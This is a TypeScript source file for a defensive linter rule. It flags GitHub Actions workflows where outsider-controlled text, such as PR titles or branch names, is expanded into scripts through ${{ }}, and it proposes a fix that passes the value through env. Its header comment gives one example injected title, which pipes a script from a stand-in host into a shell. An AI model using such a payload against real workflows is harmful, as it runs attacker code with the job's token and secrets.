// gha/template-injection — an outsider-controlled context (issue title, PR body, branch name,
// commit message, ...) expanded with ${{ }} inside a `run:` script (any shell) or the code input
// of an action that executes it (actions/github-script `script`, ... — see code-sinks.ts). The
// runner pastes the text into the script before the shell sees it, so a PR titled
// `"; curl evil.sh | sh; "` runs with the job's token and secrets. The value is followed through
// `env:`, step and job outputs, matrices and composite-action inputs (taint.ts): `${{ env.TITLE }}`
// set from the issue title is the same injection. `$TITLE` in the script is the safe form.
import type { Rule } from '../../rule';
import type { Confidence, RawFinding, Severity } from '../../types';
import type { EnvIndirectionData } from '../../fixes/settings/fix-data';
import { ENV_INDIRECTION } from '../../fixes/settings/fix-data';
import type { PathSegment } from '../../parse/entry';
import { GHA_KINDS, actionName, isRecord, workflows } from './workflow';
import type { Step, WorkflowView } from './workflow';
import { expressionsIn } from './expressions';
import { envNameFor } from './untrusted-contexts';
import { taintOf } from './taint';
import type { Taint } from './taint';
import { codeInputsOf } from './code-sinks';
import type { SinkLanguage } from './code-sinks';
import { envReference, shellOfStep } from './shells';
import { personaAtLeast } from '../../config/config';
import type { ShellFamily } from './shells';

export const TEMPLATE_INJECTION = 'gha/template-injection';

const SEVERITY: Record<Confidence, Severity> = { high: 'error', medium: 'warning', low: 'info' };

interface Target {
  /** Path of the script value inside the step. */
  rel: PathSegment[];
  /** The language the fix writes the variable reference in; undefined: no fix. */
  family: ShellFamily | undefined;
}

/**
 * The step's scripts that hold an expression at all. A script's text in the source holds `${{`
 * only if its value does, so the many scripts without one cost a string search, not a lookup of
 * their source range.
 */
function targetsOf(wf: WorkflowView, step: Step): Target[] {
  const out: Target[] = [];
  if (step.run !== undefined && step.run.includes('${{')) out.push({ rel: ['run'], family: shellOfStep(wf.data, step.path) });
  const w = step.data['with'];
  if (!isRecord(w)) return out;
  for (const sink of codeInputsOf(actionName(step.uses))) {
    const v = w[sink.input];
    if (typeof v === 'string' && v.includes('${{')) out.push({ rel: ['with', sink.input], family: familyOf(sink.lang) });
  }
  return out;
}

function familyOf(lang: SinkLanguage): ShellFamily | undefined {
  return lang === 'none' ? undefined : lang === 'bash' ? 'posix' : lang;
}

/** Where the text comes from, as a noun phrase: "`x`, what ... " */
function origin(t: Taint, isAction: boolean): [subject: string, isWhat: string] {
  if (t.source.startsWith('inputs.')) {
    return [`\`${t.source}\``, isAction ? 'whatever the calling workflow passes to this action (often a pull request title or branch name)' : 'free text chosen by whoever dispatches or calls this workflow'];
  }
  if (t.dynamic && t.source.startsWith('env.')) return [`\`${t.source}\``, 'set at run time by an earlier action or script this file does not show, so whether an outsider chose its text is unknown'];
  if (t.dynamic && t.source.startsWith('matrix.')) return [`\`${t.source}\``, 'built at run time, so its values may be text an outsider chose'];
  if (t.dynamic) return [`\`${t.source}\``, 'not known to be safe (pedantic: its value may come from a step, a variable or an event field someone else controls)'];
  if (t.source.includes(' output ')) {
    const open = t.source.indexOf(' (');
    return open === -1 ? [t.source, 'text an outsider chose'] : [t.source.slice(0, open), t.source.slice(open + 2, -1)];
  }
  return [`\`${t.source}\``, 'written by whoever opens the issue, pull request, comment or branch'];
}

function describe(t: Taint, isAction: boolean): string {
  const [subject, what] = origin(t, isAction);
  const hop = t.via?.split(' ← ')[0];
  return hop && `\`${hop}\`` !== subject ? `\`${hop}\` carries ${subject} (${what})` : `${subject} is ${what}`;
}

export const templateInjection: Rule = {
  meta: {
    id: TEMPLATE_INJECTION,
    severity: 'error',
    description: 'Outsider-controlled text (issue/PR titles, branch names, commit messages) reaches a script through ${{ }}, directly or via env, outputs, matrix or inputs.',
    fixable: true,
    kinds: GHA_KINDS,
  },
  check(ctx) {
    const out: RawFinding[] = [];
    const pedantic = personaAtLeast(ctx.config, 'pedantic');
    for (const wf of workflows(ctx)) {
      for (const step of wf.steps) {
        for (const t of targetsOf(wf, step)) {
          const loc = wf.tree.locate([...step.path, ...t.rel]);
          if (!loc || loc.collection) continue;
          for (const e of expressionsIn(ctx.text, loc.valueRange)) {
            const taint = taintOf(e.inner, { wf, job: step.job, step }) ?? (pedantic ? unknownOrigin(e.inner) : undefined);
            if (!taint) continue;
            const envRef = /^env\.([A-Za-z_][A-Za-z0-9_]*)$/.exec(e.inner);
            const name = envRef ? envRef[1]! : safeName(envNameFor(taint.via ? taint.via.split(' ← ')[0]! : taint.source));
            const how = t.family
              ? envRef
                ? `Use the variable itself, \`${envReference(t.family, name)}\`, instead of \${{ }}.`
                : `Pass it through \`env:\` (\`${name}: \${{ ${e.inner} }}\`) and read \`${envReference(t.family, name)}\` instead.`
              : `Pass it through \`env:\` and read the variable in the command instead.`;
            const f: RawFinding = {
              ruleId: TEMPLATE_INJECTION,
              message: `${describe(taint, wf.isAction)}, and \${{ }} pastes it into this script as code before it runs: crafted text runs commands with this job's token and secrets. ${how}`,
              range: e.range,
              severity: SEVERITY[taint.confidence],
              confidence: taint.confidence,
            };
            if (t.family) {
              const fix: EnvIndirectionData = { kind: ENV_INDIRECTION, doc: wf.tree.doc, stepPath: step.path, scriptKey: String(t.rel[t.rel.length - 1]), expression: e.inner, name };
              if (t.rel.length > 1 && t.family !== 'cmd') {
                fix.scriptPath = t.rel;
                fix.lang = t.family;
              }
              if (envRef) fix.existingEnv = true;
              f.fix = fix;
            }
            out.push(f);
          }
        }
      }
    }
    return out;
  },
};

/** Contexts whose values are fixed by GitHub or by the repository's maintainers (ids, SHAs, paths, settings). */
const SAFE_CONTEXT = /^(?:github\.(?:sha|run_id|run_number|run_attempt|workspace|repository|repository_id|repository_owner|repository_owner_id|server_url|api_url|graphql_url|job|action_path|action_ref|token|event_name|event\.number|event\.pull_request\.number|event\.issue\.number|event\.pull_request\.head\.sha|event\.pull_request\.base\.sha|event\.before|event\.after|retention_days|workflow_sha|ref_protected|ref_type)|runner\.[a-z_]+|secrets\.[A-Za-z0-9_]+|vars\.[A-Za-z0-9_]+|strategy\.[a-z_-]+|job\.[a-z_.-]+|steps\.[A-Za-z0-9_-]+\.(?:outcome|conclusion)|needs\.[A-Za-z0-9_-]+\.result)$/;

/** Pedantic: any context we cannot show is safe (`env.X`, an untraced output, `github.ref_name`, ...). */
function unknownOrigin(inner: string): Taint | undefined {
  const refs = inner.replace(/'[^']*'/g, "''").match(/\b[a-z_]+(?:\.[A-Za-z0-9_*-]+|\[[^\]]*\])+/g) ?? [];
  const unknown = refs.find((r) => !SAFE_CONTEXT.test(r) && !/^(?:fromJSON|toJSON|format|contains|startsWith|endsWith|join|hashFiles)$/i.test(r));
  return unknown ? { source: unknown, confidence: 'low', dynamic: true } : undefined;
}

function safeName(name: string): string {
  const n = name.replace(/[^A-Za-z0-9_]/g, '_').toUpperCase();
  return /^[0-9]/.test(n) ? `V_${n}` : n;
}
